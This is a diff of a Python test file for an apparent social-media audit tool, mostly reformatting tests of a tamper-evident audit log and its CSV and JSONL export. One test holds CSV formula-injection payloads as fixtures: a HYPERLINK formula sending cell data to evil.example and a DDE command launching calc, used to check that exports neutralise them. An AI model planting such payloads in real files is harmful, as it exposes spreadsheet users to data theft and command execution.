@@ -11,13 +11,13 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from test_audit_support import T0, make_item, populated, raw
 
 from socialwatch import audit
 from socialwatch.cli.audit import audit_group
-from socialwatch.store.schema import MIGRATIONS
-from socialwatch.store.db import Store
 from socialwatch.store import audit_log
-from test_audit_support import T0, make_item, populated, raw
+from socialwatch.store.db import Store
+from socialwatch.store.schema import MIGRATIONS
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -44,15 +44,22 @@ def test_intact_log_verifies(log):
 
 def test_triggers_refuse_update_and_delete(log):
     conn = raw(log)
-    for sql in ("UPDATE audit SET actor_name = 'eve' WHERE seq = 7", "DELETE FROM audit WHERE seq = 12",
-                "UPDATE audit_content SET text = 'x' WHERE seq = 1", "DELETE FROM audit_head",
-                "UPDATE audit_head SET seq = 3"):
-        with pytest.raises(Exception, match="append-only|never changed|cannot be deleted|only moves"):
+    for sql in (
+        "UPDATE audit SET actor_name = 'eve' WHERE seq = 7",
+        "DELETE FROM audit WHERE seq = 12",
+        "UPDATE audit_content SET text = 'x' WHERE seq = 1",
+        "DELETE FROM audit_head",
+        "UPDATE audit_head SET seq = 3",
+    ):
+        with pytest.raises(Exception, match=r"append-only|never changed|cannot be deleted|only moves"):
             conn.execute(sql)
     # A plain INSERT that does not extend the head is refused too.
     with pytest.raises(Exception, match="extend the head"):
-        conn.execute("INSERT INTO audit (seq, ts, actor_id, actor_name, action, details, prev_hash, hash) "
-                     "VALUES (40, 't', 'a', 'a', 'x', '{}', ?, ?)", [audit.GENESIS, audit.GENESIS])
+        conn.execute(
+            "INSERT INTO audit (seq, ts, actor_id, actor_name, action, details, prev_hash, hash) "
+            "VALUES (40, 't', 'a', 'a', 'x', '{}', ?, ?)",
+            [audit.GENESIS, audit.GENESIS],
+        )
     assert verify(log)[0] == 0
 
 
@@ -72,8 +79,9 @@ def test_edit_with_recomputed_hash_is_caught_at_the_edited_entry(log):
     conn.execute("DROP TRIGGER audit_no_update")
     row = conn.execute("SELECT * FROM audit WHERE seq = 8").fetchone()
     details = json.dumps({"platform_reply_id": "6666", "reply_id": 1}, separators=(",", ":"), sort_keys=True)
-    forged = audit.entry_hash(row["prev_hash"], 8, row["ts"], row["actor_id"], row["actor_name"], row["action"],
-                              row["item_key"], details)
+    forged = audit.entry_hash(
+        row["prev_hash"], 8, row["ts"], row["actor_id"], row["actor_name"], row["action"], row["item_key"], details
+    )
     conn.execute("UPDATE audit SET details = ?, hash = ? WHERE seq = 8", [details, forged])
     code, out = verify(log)
     assert code == 1 and "BROKEN at entry 8:" in out and "recomputed" in out
@@ -83,8 +91,9 @@ def test_edit_of_the_last_entry_with_recomputed_hash_is_caught_by_the_head(log):
     conn = raw(log)
     conn.execute("DROP TRIGGER audit_no_update")
     row = conn.execute("SELECT * FROM audit WHERE seq = 12").fetchone()
-    forged = audit.entry_hash(row["prev_hash"], 12, row["ts"], "U01", "alice", row["action"], row["item_key"],
-                              row["details"])
+    forged = audit.entry_hash(
+        row["prev_hash"], 12, row["ts"], "U01", "alice", row["action"], row["item_key"], row["details"]
+    )
     conn.execute("UPDATE audit SET actor_id = 'U01', actor_name = 'alice', hash = ? WHERE seq = 12", [forged])
     code, out = verify(log)
     assert code == 1 and "BROKEN at entry 12:" in out and "head" in out
@@ -133,8 +142,10 @@ def test_forged_entry_appended_without_the_head_is_caught(log):
     ts = "2026-03-01T10:00:00.000000Z"
     details = '{"reply_id":2}'
     digest = audit.entry_hash(last["hash"], 13, ts, "U01", "alice", "reply.approved", "x:5002", details)
-    conn.execute("INSERT INTO audit VALUES (13, ?, 'U01', 'alice', 'reply.approved', 'x:5002', ?, ?, ?)",
-                 [ts, details, last["hash"], digest])
+    conn.execute(
+        "INSERT INTO audit VALUES (13, ?, 'U01', 'alice', 'reply.approved', 'x:5002', ?, ?, ?)",
+        [ts, details, last["hash"], digest],
+    )
     code, out = verify(log)
     assert code == 1 and "BROKEN at entry 13:" in out and "behind socialwatch's back" in out
 
@@ -224,8 +235,10 @@ def test_old_database_is_migrated_with_its_log_intact(tmp_path, monkeypatch):
     for seq in (1, 2):
         details = audit.canonical({"text": "old style, text inside the chain", "n": seq})
         digest = audit.entry_hash(prev, seq, "2025-01-01T00:00:00.000000Z", "system", "system", "x", None, details)
-        conn.execute("INSERT INTO audit VALUES (?, '2025-01-01T00:00:00.000000Z', 'system', 'system', 'x', NULL, "
-                     "?, ?, ?)", [seq, details, prev, digest])
+        conn.execute(
+            "INSERT INTO audit VALUES (?, '2025-01-01T00:00:00.000000Z', 'system', 'system', 'x', NULL, ?, ?, ?)",
+            [seq, details, prev, digest],
+        )
         prev = digest
     result = audit_log.verify_audit(Store(path, migrate=False))
     assert result.ok and result.warnings  # no head yet: says a cut-off tail would go unnoticed
@@ -234,10 +247,13 @@ def test_old_database_is_migrated_with_its_log_intact(tmp_path, monkeypatch):
     assert audit_log.audit_head(store) == audit.Head(2, prev, "2025-01-01T00:00:00.000000Z")
     audit_log.append_audit(store, "daemon.start")
     assert verify(path)[0] == 0
-    assert [r["data"].get("text") for r in audit_log.audit_rows(store)] == ["old style, text inside the chain"] * 2 + [None]
+    assert [r["data"].get("text") for r in audit_log.audit_rows(store)] == ["old style, text inside the chain"] * 2 + [
+        None
+    ]
 
 
 # --- export -------------------------------------------------------------------------------
+
 
 def export(path: Path, *args: str) -> str:
     result = CliRunner().invoke(audit_group, ["export", "--database", str(path), *args])
@@ -268,8 +284,22 @@ def test_reply_export_csv_columns_and_values(log):
 
 def test_reply_export_jsonl_to_file_with_time_window(tmp_path, log):
     out = tmp_path / "replies.jsonl"
-    result = CliRunner().invoke(audit_group, ["export", "--database", str(log), "--format", "jsonl", "--output",
-                                              str(out), "--since", "2026-03-01T09:30:00Z", "--until", "2026-03-02"])
+    result = CliRunner().invoke(
+        audit_group,
+        [
+            "export",
+            "--database",
+            str(log),
+            "--format",
+            "jsonl",
+            "--output",
+            str(out),
+            "--since",
+            "2026-03-01T09:30:00Z",
+            "--until",
+            "2026-03-02",
+        ],
+    )
     assert result.exit_code == 0 and "1 replies written" in result.output
     rows = [json.loads(line) for line in out.read_text().splitlines()]
     assert len(rows) == 1 and rows[0]["approver_name"] == "bob" and rows[0]["edited"] is True
@@ -283,8 +313,12 @@ def test_events_export_has_every_entry_with_its_texts(log):
     assert list(rows[0]) == list(audit.EVENT_COLUMNS)
     assert rows[0]["details"]["text"] == make_item(0).text
     assert rows[11]["action"] == "action.refused" and rows[11]["actor_name"] == "mallory"
-    window = [json.loads(line) for line in export(
-        log, "--events", "--format", "jsonl", "--since", (T0 + timedelta(minutes=40)).isoformat()).splitlines()]
+    window = [
+        json.loads(line)
+        for line in export(
+            log, "--events", "--format", "jsonl", "--since", (T0 + timedelta(minutes=40)).isoformat()
+        ).splitlines()
+    ]
     assert [r["action"] for r in window] == ["reply.approved", "reply.edited", "reply.sent", "action.refused"]
     table = list(csv.DictReader(io.StringIO(export(log, "--events"))))
     assert len(table) == 12 and json.loads(table[9]["details"])["suggested"] == "We are looking into it."
@@ -297,8 +331,16 @@ def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
     [item_id] = ingest(store, [make_item(0, text=hostile)], T0)
     dde = "@SUM(1+1)*cmd|' /C calc'!A0"
-    approve_and_send(store, item_id, final="+1 thanks", suggested=dde, approver=("U01", "=cmd"),
-                     approved_at=T0 + timedelta(minutes=1), sent_at=T0 + timedelta(minutes=2), platform_id="1")
+    approve_and_send(
+        store,
+        item_id,
+        final="+1 thanks",
+        suggested=dde,
+        approver=("U01", "=cmd"),
+        approved_at=T0 + timedelta(minutes=1),
+        sent_at=T0 + timedelta(minutes=2),
+        platform_id="1",
+    )
     row = next(csv.DictReader(io.StringIO(export(store.path))))
     assert row["post_text"] == "'" + hostile
     assert (row["final_text"], row["suggested_text"], row["approver_name"]) == ("'+1 thanks", "'" + dde, "'=cmd")
